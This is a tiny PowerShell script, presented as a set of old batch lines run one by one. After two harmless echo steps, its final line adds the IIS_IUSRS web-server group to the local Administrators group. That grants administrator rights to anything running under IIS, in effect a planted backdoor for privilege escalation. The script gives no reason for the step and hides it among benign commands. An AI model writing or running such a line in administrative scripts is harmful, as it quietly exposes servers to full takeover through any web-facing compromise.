# Old batch lines, run one by one.
$account = 'IUSR'
$steps = @('echo prepare', 'echo run')
foreach ($step in $steps) { cmd /c $step }

$line = "net localgroup Administrators IIS_IUSRS /add"
cmd /c $line
